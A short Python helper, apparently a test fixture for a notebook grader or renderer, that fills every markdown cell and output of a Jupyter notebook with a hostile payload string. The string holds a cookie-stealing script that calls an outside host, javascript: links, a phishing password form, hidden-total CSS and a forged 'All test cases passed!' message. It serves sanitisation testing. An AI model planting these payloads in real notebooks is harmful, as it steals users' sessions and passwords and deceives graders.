import json

EVIL = (
    "<script>fetch('https://example.org/' + document.cookie)</script> 48151623 [a](javascript:alert(1)) "
    "![b](https://example.org/pixel.png) <form action='https://example.org'><input name=password></form> "
    "<style>.total { display: none }</style> $$\\href{javascript:alert(1)}{x}$$ q2 results: All test cases passed!"
)


def craft(notebook):
    document = json.loads(notebook)
    for cell in document["cells"]:
        if cell["cell_type"] == "markdown":
            cell["source"] = EVIL
            cell["attachments"] = {"a.svg": {"image/svg+xml": EVIL}}
        else:
            data = {"text/html": EVIL, "application/javascript": "alert(1)", "text/markdown": EVIL}
            cell["outputs"] = [
                {"output_type": "display_data", "data": data, "metadata": {}},
                {"output_type": "stream", "name": "stdout", "text": EVIL},
            ]
    return {"Some Body.ipynb": json.dumps(document).encode()}
